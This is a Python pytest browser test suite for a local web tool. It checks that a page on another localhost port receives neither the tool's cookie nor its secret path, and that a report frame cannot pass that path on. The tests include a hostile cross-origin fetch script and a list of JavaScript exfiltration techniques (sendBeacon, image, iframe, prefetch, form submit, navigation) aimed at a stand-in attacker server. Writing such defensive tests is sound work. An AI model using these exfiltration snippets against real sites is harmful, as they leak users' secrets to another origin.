"""Another server of this machine, in the browser that has our page open: it is not sent our cookie, nor told our path."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.kit.page_kit import CHROMIUM, PATIENCE, SAMPLES, Seat, Served, served

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed"),
]
HOSTILE = b"""<!doctype html><title>neighbour</title><script>
Promise.all(["/cases", "/events", "/info", "/enter"].map((path) => fetch(path, {credentials: "include"})))
  .then(() => { document.title = "asked"; });
</script>"""


class Neighbour:
    """A server on another port of 127.0.0.1 that writes down what it is asked, and which cookies it is sent."""

    def __init__(self) -> None:
        self.asked: list[tuple[str, str]] = []
        asked = self.asked

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append((self.path, str(self.headers.get("Cookie", ""))))
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(HOSTILE)))
                self.end_headers()
                self.wfile.write(HOSTILE)

            def do_POST(self) -> None:
                self.do_GET()

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}"
        self._thread = threading.Thread(
            target=self._server.serve_forever, kwargs={"poll_interval": 0.05}
        )
        self._thread.start()

    def close(self) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()


@pytest.fixture
def neighbour() -> Iterator[Neighbour]:
    server = Neighbour()
    yield server
    server.close()


@pytest.fixture
def seat(browser: Any, server: Served) -> Iterator[Seat]:
    """A window in which our page is open."""
    made = Seat(browser).enter(server)
    yield made
    made.context.close()


def home_of(seat: Seat) -> str:
    """Return the secret path, which our own page alone can read."""
    return str(seat.page.evaluate("localStorage.getItem('backline-path')"))


def give(seat: Seat) -> Any:
    """Give a small case and return the frame of its report."""
    folder = SAMPLES / "lab-ring-before"
    seat.drop(
        *((path.name, path.read_bytes()) for path in sorted(folder.iterdir()) if path.is_file())
    )
    return seat.report()


def test_a_server_of_another_port_is_not_sent_our_cookie(
    seat: Seat, server: Served, neighbour: Neighbour
) -> None:
    """A page of another port, opened beside ours, asks its own server for our addresses: no cookie of ours comes there.

    Below our path it would come: the path, which nothing tells that server, is what holds it back.
    """
    give(seat)
    [cookie] = [one for one in seat.context.cookies() if one["name"] == f"backline-{server.port}"]
    page = seat.context.new_page()
    page.goto(neighbour.url)
    page.wait_for_function("document.title === 'asked'")
    assert {path for path, _ in neighbour.asked} >= {"/", "/cases", "/events", "/info", "/enter"}
    assert [
        sent for sent in neighbour.asked if "backline" in sent[1] or cookie["value"] in sent[1]
    ] == []
    home = home_of(seat)
    assert home not in str(neighbour.asked)
    assert home not in "".join(server.lines)
    page.goto(f"{neighbour.url}{home}/cases")
    assert cookie["value"] in dict(neighbour.asked)[f"{home}/cases"]


@pytest.mark.parametrize(
    "ways",
    [
        (
            "fetch(to, {mode: 'no-cors'}).catch(() => {})",
            "navigator.sendBeacon(to)",
            "new Image().src = to",
            "document.body.append(Object.assign(document.createElement('iframe'), {src: to}))",
            "document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: to}))",
        ),
        ("location.href = to",),
        ("top.location.href = to",),
        (
            "const form = Object.assign(document.createElement('form'), {action: to});"
            "document.body.append(form); form.submit()",
        ),
    ],
    ids=["asking", "going", "taking the page along", "a form"],
)
def test_a_report_cannot_pass_on_the_path(
    seat: Seat, neighbour: Neighbour, ways: tuple[str, ...]
) -> None:
    """A report knows its address, but a stranger's script that ran in it could send it to no other port."""
    report = give(seat)
    assert urlsplit(report.evaluate("location.href")).path.startswith(home_of(seat) + "/")
    assert report.evaluate("document.referrer") == ""
    for way in ways:
        trouble = len(seat.trouble)
        report.evaluate(
            f"(to) => {{ try {{ {way} }} catch (error) {{ console.error(String(error)) }} }}",
            f"{neighbour.url}/told",
        )
        until = time.monotonic() + PATIENCE / 1000
        while (
            len(seat.trouble) == trouble and "prefetch" not in way
        ):  # which is dropped without a word
            assert time.monotonic() < until
            seat.page.wait_for_timeout(20)
    page = seat.context.new_page()
    page.goto(neighbour.url)  # what had been sent before would have come before
    page.wait_for_function("document.title === 'asked'")
    assert not [path for path, _ in neighbour.asked if path.startswith("/told")]
    assert seat.page.url.startswith("http://127.0.0.1:")
    assert neighbour.url not in seat.page.url


def test_a_reload_and_further_tabs_find_the_way_in(seat: Seat, server: Served) -> None:
    """A reload, the printed address in a second tab and a link opened in a new tab need nothing anew.

    The first holds also when the window was opened with a ticket, which is worth nothing any more.
    """
    seat.page.evaluate("sessionStorage.clear()")
    seat.page.reload()
    seat.page.wait_for_selector("body[data-done=yes]", state="attached")
    for url in (server.url, f"{server.address}#cases"):
        tab = seat.context.new_page()
        tab.goto(url)
        tab.wait_for_selector("body[data-done=yes]", state="attached")
    assert seat.trouble == []


def test_a_path_of_an_earlier_start_is_given_up(browser: Any, tmp_path: Path) -> None:
    """On the same port, the address of a new start lets in a browser that kept the path of an earlier one."""
    seat = Seat(browser)
    try:
        with served(tmp_path / "first") as first:
            seat.enter(first)
            before, port = home_of(seat), str(first.port)
            seat.page.goto("about:blank")
        with served(tmp_path / "second", "--port", port) as second:
            seat.enter(second)
            assert seat.page.evaluate("document.body.dataset.done") == "yes"
            assert home_of(seat) not in ("", before)
        assert [line for line in seat.trouble if "401" not in line] == []
    finally:
        seat.context.close()
